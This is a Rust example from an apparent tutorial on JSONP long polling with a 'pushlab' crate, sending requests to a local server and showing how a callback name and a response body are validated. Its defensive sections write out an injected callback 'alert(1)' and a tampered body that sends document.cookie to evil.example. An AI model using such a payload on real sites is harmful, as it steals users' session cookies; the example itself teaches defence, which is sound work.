//! Chapter 5: JSONP polling. The answer is not data but a script that calls a function the page named.
//!
//! ```text
//! cargo run --example 05_jsonp
//! cargo run --example 05_jsonp -- --addr 127.0.0.1:9005
//! ```
//!
//! A browser loads `<script src="/jsonp/news?after=N&callback=F">` and runs what comes back. This example
//! sends the same requests by hand over one kept-alive connection, prints every byte, and reads each
//! answer with `pushlab::client::jsonp::parse_jsonp`, which checks the exact shape `/**/F({...});`
//! instead of running it. pushlab holds a JSONP request like a long poll, so a thread publishes three
//! messages while the client waits. Then it shows the two defences of this door: a callback that is
//! not a plain name is refused with 400, and the client refuses a body that does more than call `F`.

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::thread;
use std::time::{Duration, Instant};

use pushlab::client::jsonp::parse_jsonp;
use pushlab::client::poll::Batch;
use pushlab::Config;

const CALLBACK: &str = "app.news.receive";
/// Pauses before each live message, in milliseconds.
const PUBLISH_GAPS_MS: [u64; 3] = [300, 250, 400];

fn main() -> io::Result<()> {
    let config = Config {
        addr: addr_from_args()?,
        clock_interval: None, // no `clock` topic: keep the wire quiet
        ..Config::default()
    };
    let server = pushlab::server::spawn(config)?;
    println!("pushlab listening on http://{}/\n", server.addr);
    server.publish("news", "story 1")?;
    server.publish("news", "a <b>bold</b> \"quote\"")?;
    let mut socket = TcpStream::connect(server.addr)?;
    socket.set_read_timeout(Some(Duration::from_secs(30)))?; // longer than the 20 s hold

    // ANCHOR: first
    // after=0: everything the log has, so the answer comes at once. Note the body: a comment, the
    // callback, the batch as its argument, and `);`.
    let (batch, exchange) = jsonp_poll(&mut socket, server.addr, 0, CALLBACK)?;
    exchange.print();
    println!("decoded: {:?}\n", batch.messages);
    // ANCHOR_END: first

    let handle = server.handle.clone();
    let publisher = thread::spawn(move || -> io::Result<Vec<(u64, Instant)>> {
        let mut sent = Vec::new();
        for (n, gap_ms) in PUBLISH_GAPS_MS.into_iter().enumerate() {
            thread::sleep(Duration::from_millis(gap_ms));
            let at = Instant::now();
            sent.push((handle.publish("news", &format!("story {}", n + 3))?, at));
        }
        Ok(sent)
    });

    // ANCHOR: loop
    // The page's loop: when the script has run, insert the next <script src> with after = last.
    let (mut after, mut requests, mut total_bytes) = (batch.last, 1, exchange.bytes());
    let mut received = Vec::new(); // (id, when it reached us)
    while received.len() < PUBLISH_GAPS_MS.len() && requests < 20 {
        let asked = Instant::now();
        let (batch, exchange) = jsonp_poll(&mut socket, server.addr, after, CALLBACK)?;
        let now = Instant::now();
        requests += 1;
        total_bytes += exchange.bytes();
        println!("{}", String::from_utf8_lossy(exchange.body()));
        println!(
            "  ^ held {:.1?}, {} bytes in all\n",
            now - asked,
            exchange.bytes()
        );
        received.extend(batch.messages.iter().map(|message| (message.id, now)));
        after = batch.last;
    }
    // ANCHOR_END: loop

    // ANCHOR: refused
    // The callback name is copied into JavaScript the page will run. `alert(1)` is not a name: 400.
    let mut other = TcpStream::connect(server.addr)?;
    let (_, refused) = get(&mut other, server.addr, "/jsonp/news?callback=alert(1)")?;
    refused.print();
    // ANCHOR_END: refused

    // ANCHOR: tampered
    // What a browser would run if the server (or someone in the middle of plain HTTP) added a statement:
    // the page has no way to refuse it. The Rust client only accepts exactly `/**/F(<batch>);`.
    let tampered = format!(
        "/**/{CALLBACK}({{\"messages\":[],\"last\":{after}}});fetch('//evil.example/?'+document.cookie)"
    );
    match parse_jsonp(&tampered, CALLBACK) {
        Ok(_) => println!("the client accepted a tampered body!\n"),
        Err(error) => println!("the client refuses a tampered body: {error}\n"),
    }
    // ANCHOR_END: tampered

    let sent = publisher
        .join()
        .map_err(|_| io::Error::other("publisher panicked"))??;
    let latencies: Vec<Duration> = received
        .iter()
        .filter_map(|(id, got)| sent.iter().find(|(s, _)| s == id).map(|(_, at)| *got - *at))
        .collect();
    let mean = latencies.iter().sum::<Duration>() / latencies.len().max(1) as u32;
    let count = received.len() + batch.messages.len();
    println!("---- summary ----");
    println!(
        "messages received:   {count} (2 from the log, {} live)",
        received.len()
    );
    println!("HTTP requests made:  {requests} (and 1 refused)");
    println!(
        "bytes on the wire:   {total_bytes} in both directions, {} per message; the wrapper `/**/{CALLBACK}(` + `);` is {} of them",
        total_bytes / count.max(1),
        4 + CALLBACK.len() + 1 + 2
    );
    println!("latency (live):      mean {mean:.1?} (held like a long poll)");
    Ok(())
}

// ANCHOR: jsonp_poll
/// `GET /jsonp/news?after=N&callback=F`, held until there is something after N; the body is checked
/// and read by the crate's JSONP client.
fn jsonp_poll(
    socket: &mut TcpStream,
    addr: SocketAddr,
    after: u64,
    callback: &str,
) -> io::Result<(Batch, Exchange)> {
    let target = format!("/jsonp/news?after={after}&callback={callback}");
    let (status, exchange) = get(socket, addr, &target)?;
    if status != 200 {
        return Err(io::Error::other(format!("HTTP {status}")));
    }
    let body = std::str::from_utf8(exchange.body()).map_err(io::Error::other)?;
    Ok((parse_jsonp(body, callback)?, exchange))
}
// ANCHOR_END: jsonp_poll

/// Sends `GET target` and reads one response with a `Content-Length` body. Returns the status code
/// and the bytes. (pushlab::client::http does this properly, with chunked bodies too.)
fn get(socket: &mut TcpStream, addr: SocketAddr, target: &str) -> io::Result<(u16, Exchange)> {
    let request = format!("GET {target} HTTP/1.1\r\nHost: {addr}\r\n\r\n").into_bytes();
    socket.write_all(&request)?;
    let mut response = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        if let Some(end) = response.windows(4).position(|w| w == b"\r\n\r\n") {
            let body_start = end + 4;
            let head = String::from_utf8_lossy(&response[..end]).to_ascii_lowercase();
            let length: usize = head
                .split("\r\n")
                .find_map(|line| line.strip_prefix("content-length:"))
                .and_then(|value| value.trim().parse().ok())
                .unwrap_or(0);
            if response.len() >= body_start + length {
                response.truncate(body_start + length);
                let status = head.get(9..12).and_then(|s| s.parse().ok()).unwrap_or(0);
                let exchange = Exchange {
                    request,
                    response,
                    body_start,
                };
                return Ok((status, exchange));
            }
        }
        let n = socket.read(&mut buf)?;
        if n == 0 {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
        response.extend_from_slice(&buf[..n]);
    }
}

/// The bytes of one request and its response.
struct Exchange {
    request: Vec<u8>,
    response: Vec<u8>,
    body_start: usize,
}

impl Exchange {
    fn bytes(&self) -> usize {
        self.request.len() + self.response.len()
    }

    fn body(&self) -> &[u8] {
        &self.response[self.body_start..]
    }

    fn print(&self) {
        let (request, response) = (&self.request, &self.response);
        println!(
            "---- request, {} bytes ----\n{}",
            request.len(),
            escape(request)
        );
        println!(
            "---- response, {} bytes ----\n{}\n",
            response.len(),
            escape(response)
        );
    }
}

/// Shows bytes as they travel: CR as `\r`, LF as `\n` plus a real line break.
fn escape(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes)
        .replace('\r', "\\r")
        .replace('\n', "\\n\n")
}

/// `--addr HOST:PORT`, or 127.0.0.1 with a port the system picks.
fn addr_from_args() -> io::Result<SocketAddr> {
    let mut args = std::env::args().skip(1);
    match (args.next().as_deref(), args.next()) {
        (None, _) => Ok(SocketAddr::from(([127, 0, 0, 1], 0))),
        (Some("--addr"), Some(addr)) => addr.parse().map_err(io::Error::other),
        _ => Err(io::Error::other("usage: [--addr HOST:PORT]")),
    }
}
